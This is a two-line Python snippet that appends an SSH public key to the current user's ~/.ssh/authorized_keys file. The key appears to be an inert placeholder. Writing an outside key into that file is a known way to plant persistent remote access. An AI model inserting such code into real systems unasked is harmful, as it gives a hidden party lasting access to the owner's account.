with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as file:
    file.write("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQinert x@example.invalid")
